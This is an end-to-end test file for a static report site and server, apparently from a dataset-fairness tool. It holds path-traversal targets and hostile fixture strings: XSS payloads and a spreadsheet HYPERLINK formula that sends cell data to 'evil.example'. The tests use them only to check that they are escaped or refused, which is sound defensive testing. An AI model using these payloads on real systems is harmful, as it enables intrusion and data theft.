import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type StaticSiteServer,
  startStaticSiteServer,
} from '../../functions/adapters/local/static-site-server.ts';
import { suppressReport } from '../../functions/core/privacy/suppress.ts';
import { renderSite } from '../../web/index.ts';
import {
  hostileNamesReport,
  labelledReport,
  sampleReport,
  severalReferencesReport,
} from '../fixtures/reports.ts';

/**
 * The published site end to end: rendered to a folder, served by the local static server, read in
 * headless Chromium. The server checks speak raw HTTP and always run; the browser checks need
 * Debian's chromium at /usr/bin/chromium and are left out (with a printed reason) without it —
 * unless REPSCOPE_REQUIRE_BROWSER=1, which makes a missing browser a failure (CI sets it).
 */
const CHROMIUM = '/usr/bin/chromium';
const hasChromium = existsSync(CHROMIUM);
const requireBrowser = process.env['REPSCOPE_REQUIRE_BROWSER'] === '1';
if (!hasChromium && !requireBrowser) {
  console.warn(
    `[e2e] not running the browser tests: ${CHROMIUM} is not installed ` +
      '(apt-get install chromium; set REPSCOPE_REQUIRE_BROWSER=1 to make its absence a failure)',
  );
}

const SECRET = 'top secret: outside the site root';
const RUN_PATH = 'datasets/marketing-leads/runs/20240501T120000Z/index.html';
const LABELLED_PATH = 'datasets/credit-applications/runs/20240601T090000Z/index.html';

let workDir: string;
let siteDir: string;
let server: StaticSiteServer;

beforeAll(async () => {
  workDir = await mkdtemp(path.join(tmpdir(), 'repscope-e2e-'));
  siteDir = path.join(workDir, 'site');
  const files = await renderSite({
    reports: [sampleReport(), hostileNamesReport(), labelledReport(), severalReferencesReport()].map((r) =>
      suppressReport(r, 10),
    ),
    generatedAt: '2024-05-02T08:00:00.000Z',
  });
  for (const file of files) {
    const target = path.join(siteDir, file.path);
    await mkdir(path.dirname(target), { recursive: true });
    await writeFile(target, file.body);
  }
  await writeFile(path.join(workDir, 'secret.txt'), SECRET);
  await symlink(path.join(workDir, 'secret.txt'), path.join(siteDir, 'leak.txt'));
  await mkdir(path.join(siteDir, 'no-index'));
  await writeFile(path.join(siteDir, 'no-index', 'file.txt'), 'listed?');
  server = await startStaticSiteServer({ root: siteDir });
});

afterAll(async () => {
  await server?.close();
  if (workDir) await rm(workDir, { recursive: true, force: true });
});

interface RawResponse {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/** A request with the target sent exactly as written (fetch would normalise `..` away). */
function raw(target: string, method = 'GET'): Promise<RawResponse> {
  const { hostname, port } = new URL(server.url);
  return new Promise((resolve, reject) => {
    const req = request({ host: hostname, port, path: target, method }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () =>
        resolve({
          status: res.statusCode ?? 0,
          headers: res.headers,
          body: Buffer.concat(chunks).toString(),
        }),
      );
    });
    req.on('error', reject);
    req.end();
  });
}

describe('static site server', () => {
  it('listens on loopback, on a free port, by default', () => {
    expect(server.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);
  });

  it('serves / as index.html with a strict CSP and nosniff', async () => {
    const res = await raw('/');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    const csp = String(res.headers['content-security-policy']);
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("object-src 'none'");
    expect(csp).not.toContain('unsafe-inline');
    expect(res.body).toContain('<h1>Datasets</h1>');
  });

  it.each([
    ['/assets/site.css', 'text/css; charset=utf-8'],
    ['/datasets/marketing-leads/runs/20240501T120000Z/report.json', 'application/json; charset=utf-8'],
    ['/datasets/marketing-leads/runs/20240501T120000Z/', 'text/html; charset=utf-8'],
    ['/datasets/marketing-leads/index.html?x=1#y', 'text/html; charset=utf-8'],
  ])('serves %s as %s', async (target, type) => {
    const res = await raw(target);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe(type);
  });

  it('redirects a directory without its slash, so relative links resolve', async () => {
    const res = await raw('/datasets/marketing-leads');
    expect(res.status).toBe(301);
    expect(res.headers['location']).toBe('/datasets/marketing-leads/');
  });

  it('answers HEAD without a body and refuses other methods', async () => {
    const head = await raw('/', 'HEAD');
    expect(head.status).toBe(200);
    expect(head.body).toBe('');
    const post = await raw('/', 'POST');
    expect(post.status).toBe(405);
    expect(post.headers['allow']).toBe('GET, HEAD');
  });

  it('404s a missing file and a directory without index.html (no listings)', async () => {
    for (const target of ['/missing.html', '/no-index/', '/datasets/nope/']) {
      const res = await raw(target);
      expect(res.status, target).toBe(404);
      expect(res.body).not.toContain('file.txt');
      expect(res.headers['x-content-type-options']).toBe('nosniff');
    }
  });

  it.each([
    '/../secret.txt',
    '/..%2fsecret.txt',
    '/..%2Fsecret.txt',
    '/%2e%2e/secret.txt',
    '/%2e%2e%2fsecret.txt',
    '/assets/..%2f..%2fsecret.txt',
    '/assets/%2e%2e/%2e%2e/secret.txt',
    '/assets/../../secret.txt',
    '/..%5csecret.txt',
    '/%00/secret.txt',
    '/%E0%A4%A',
    'secret.txt',
    '/leak.txt',
  ])('never serves anything outside the root: %s', async (target) => {
    const res = await raw(target);
    expect([400, 404]).toContain(res.status);
    expect(res.body).not.toContain(SECRET);
  });
});

describe.runIf(hasChromium || requireBrowser)('the site in headless Chromium', () => {
  let browser: Browser;

  beforeAll(async () => {
    if (!hasChromium) throw new Error(`REPSCOPE_REQUIRE_BROWSER=1 but ${CHROMIUM} is not installed`);
    // launch() runs Chromium with a fresh temporary profile of its own (a --user-data-dir argument
    // is refused here; it belongs to launchPersistentContext).
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      headless: true,
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
        '--no-first-run',
      ],
    });
  });

  afterAll(async () => {
    await browser?.close();
  });

  /** A page that records console errors, page errors, dialogs and every request it makes. */
  async function watchedPage(options: { javaScriptEnabled?: boolean } = {}) {
    const context: BrowserContext = await browser.newContext({
      javaScriptEnabled: options.javaScriptEnabled ?? true,
      serviceWorkers: 'block',
    });
    const page: Page = await context.newPage();
    const problems: string[] = [];
    const requests: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'error' || m.type() === 'warning') problems.push(`console ${m.type()}: ${m.text()}`);
    });
    page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
    page.on('dialog', async (d) => {
      problems.push(`dialog: ${d.message()}`);
      await d.dismiss();
    });
    context.on('request', (r) => requests.push(r.url()));
    return { context, page, problems, requests };
  }

  function outsideOrigin(requests: readonly string[], origin: string): string[] {
    return requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:'));
  }

  it('goes from the index to a dataset to a run by its links, and shows the run', async () => {
    const { context, page, problems, requests } = await watchedPage();
    await page.goto(server.url);
    await expect(page.title()).resolves.toBe('Datasets · repscope');
    await page.getByRole('link', { name: 'marketing-leads', exact: true }).click();
    await page.waitForURL(`${server.url}datasets/marketing-leads/index.html`);
    await page.getByRole('link', { name: '20240501T120000Z' }).click();
    await page.waitForURL(`${server.url}${RUN_PATH}`);

    await expect(page.getByRole('heading', { level: 1 }).textContent()).resolves.toBe(
      'marketing-leads: run 20240501T120000Z',
    );
    const chart = page.getByRole('img', { name: /share of rows per group of age_band/ });
    await chart.waitFor({ state: 'visible' });
    const box = await chart.locator('svg').boundingBox();
    expect(box?.width ?? 0).toBeGreaterThan(200);
    expect(box?.height ?? 0).toBeGreaterThan(100);
    // Two attribute charts and the label-rate chart of sex.
    await expect(page.locator('.chart svg').count()).resolves.toBe(3);
    await expect(page.getByRole('cell', { name: 'hidden', exact: true }).count()).resolves.toBeGreaterThan(0);
    await expect(
      page.getByRole('table', { name: /sex × age_band, vs joint reference/ }).isVisible(),
    ).resolves.toBe(true);
    const badge = page.locator('.badge-large');
    await expect(badge.evaluate((el) => getComputedStyle(el).backgroundColor)).resolves.toBe(
      'rgb(207, 34, 46)',
    );

    expect(problems).toEqual([]);
    expect(outsideOrigin(requests, server.url)).toEqual([]);
    await context.close();
  });

  it('shows hostile group names as text and runs nothing', async () => {
    const { context, page, problems, requests } = await watchedPage();
    await page.goto(server.url);
    await page.getByRole('link', { name: 'hostile-names', exact: true }).click();
    await page.getByRole('link', { name: 'run-1' }).click();
    await page.waitForURL(/hostile-names\/runs\/run-1\/index\.html$/);

    // The group table; the same names are row headers of the label, composition and source tables too.
    const groups = page.getByRole('table', { name: /dataset share compared with the reference/ });
    const script = groups.getByRole('rowheader', { name: '<script>alert(1)</script>', exact: true });
    await expect(script.isVisible()).resolves.toBe(true);
    await expect(
      groups.getByRole('rowheader', { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")' }).isVisible(),
    ).resolves.toBe(true);
    await expect(
      page.getByRole('rowheader', { name: '<script>alert(1)</script>', exact: true }).count(),
    ).resolves.toBe(4);
    for (const mouseover of await page
      .getByRole('rowheader', { name: '" onmouseover="alert(2)" x="', exact: true })
      .all()) {
      await mouseover.hover();
    }
    await page.getByRole('columnheader', { name: '<img src=x onerror=alert(7)>', exact: true }).hover();
    await expect(
      page.getByRole('heading', { level: 3, name: '<b>region</b>', exact: true }).isVisible(),
    ).resolves.toBe(true);
    await expect(page.locator('script, img, iframe, object, embed').count()).resolves.toBe(0);
    await expect(page.getByText('javascript:alert(6)').evaluate((el) => el.tagName)).resolves.toBe('CODE');

    expect(problems).toEqual([]);
    expect(outsideOrigin(requests, server.url)).toEqual([]);
    await context.close();
  });

  it('shows labels, weights, sources and the correction of a labelled run, with no console errors', async () => {
    const { context, page, problems, requests } = await watchedPage();
    await page.goto(server.url);
    await page.getByRole('link', { name: 'credit-applications', exact: true }).click();
    await page.getByRole('link', { name: '20240601T090000Z' }).click();
    await page.waitForURL(`${server.url}${LABELLED_PATH}`);

    await expect(page.getByRole('heading', { level: 4, name: 'Labels: approved' }).count()).resolves.toBe(2);
    const ageLabels = page.getByRole('table', {
      name: 'age_band: rate of positive approved per group, each group vs the rest',
    });
    await expect(ageLabels.isVisible()).resolves.toBe(true);
    const old = ageLabels.getByRole('row', { name: /^75\+/ });
    await expect(old.getByRole('cell', { name: 'hidden', exact: true }).count()).resolves.toBe(1);
    await expect(
      page
        .getByText(
          'female: positive rate 20.4 % vs 23.2 % for the rest; disparate impact 0.88 (passes the four-fifths rule).',
        )
        .isVisible(),
    ).resolves.toBe(true);
    const labelChart = page.getByRole('img', {
      name: /rate of positive approved labels per group of age_band/,
    });
    const box = await labelChart.locator('svg').boundingBox();
    expect(box?.width ?? 0).toBeGreaterThan(200);
    await expect(page.locator('.chart svg').count()).resolves.toBe(4);
    await expect(page.getByText(/effective sample size \(Kish\) 11,204/).count()).resolves.toBe(2);

    await expect(page.getByRole('heading', { level: 2, name: 'Sources' }).isVisible()).resolves.toBe(true);
    const finding = page.locator('#sources ~ section .finding');
    await expect(finding.textContent()).resolves.toContain('came from one source: branch.');
    await expect(finding.evaluate((el) => getComputedStyle(el).borderLeftStyle)).resolves.toBe('solid');
    const sexBySource = page.getByRole('table', {
      name: /^sex: share of each group’s rows from each source/,
    });
    // #17's audit: diverse's web-form cell pinned its small cells, so it and female's go too.
    await expect(sexBySource.getByRole('cell', { name: 'hidden', exact: true }).count()).resolves.toBe(6);

    await expect(
      page
        .getByText(
          'would cost a design effect of 1.82, i.e. the data would be worth 6,581 rows (55 % of its rows).',
          { exact: false },
        )
        .isVisible(),
    ).resolves.toBe(true);
    await expect(
      page.getByText('Raking converged in 7 iterations', { exact: false }).isVisible(),
    ).resolves.toBe(true);
    await expect(page.getByText('Most misrepresented cells').isVisible()).resolves.toBe(true);

    expect(problems).toEqual([]);
    expect(outsideOrigin(requests, server.url)).toEqual([]);
    await context.close();
  });

  it('shows an attribute against several references side by side, with no console errors (#18)', async () => {
    const { context, page, problems, requests } = await watchedPage();
    await page.goto(`${server.url}datasets/several-references/runs/20240501T120000Z/index.html`);
    const chart = page.getByRole('img', { name: /in the dataset and in each of 2 references/ });
    await chart.waitFor({ state: 'visible' });
    expect((await chart.locator('svg').boundingBox())?.height ?? 0).toBeGreaterThan(100);
    const table = page.getByRole('table', { name: /dataset share and each reference's share and ratio/ });
    await expect(table.isVisible()).resolves.toBe(true);
    await expect(
      table.getByRole('columnheader', { name: 'Ratio to market-2026/sex' }).isVisible(),
    ).resolves.toBe(true);
    await expect(
      page.getByText(/^Against market-2026\/sex \(market estimate, for information\)/).isVisible(),
    ).resolves.toBe(true);
    expect(problems).toEqual([]);
    expect(outsideOrigin(requests, server.url)).toEqual([]);
    await context.close();
  });

  it('works with JavaScript off: the chart and the tables are in the page', async () => {
    const { context, page, problems } = await watchedPage({ javaScriptEnabled: false });
    await page.goto(`${server.url}${RUN_PATH}`);
    await expect(page.locator('.chart svg').first().isVisible()).resolves.toBe(true);
    await expect(page.getByRole('table').count()).resolves.toBeGreaterThanOrEqual(4);
    expect(problems).toEqual([]);
    await context.close();
  });

  it('works from file:// and under another base path, because every link is relative', async () => {
    const { context, page, problems } = await watchedPage();
    await page.goto(pathToFileURL(path.join(siteDir, 'index.html')).href);
    await page.getByRole('link', { name: 'marketing-leads', exact: true }).click();
    await page.getByRole('link', { name: '20240501T120000Z' }).click();
    await page.waitForURL(/runs\/20240501T120000Z\/index\.html$/);
    await expect(page.locator('.chart svg').first().isVisible()).resolves.toBe(true);
    await expect(page.locator('.badge-large').evaluate((el) => getComputedStyle(el).color)).resolves.toBe(
      'rgb(255, 255, 255)',
    );

    const parent = await startStaticSiteServer({ root: workDir });
    try {
      await page.goto(`${parent.url}site/`);
      await page.getByRole('link', { name: 'hostile-names', exact: true }).click();
      await page.waitForURL(`${parent.url}site/datasets/hostile-names/index.html`);
      await page.getByRole('link', { name: 'All datasets' }).click();
      await page.waitForURL(`${parent.url}site/index.html`);
    } finally {
      await parent.close();
    }
    expect(problems).toEqual([]);
    await context.close();
  });
});
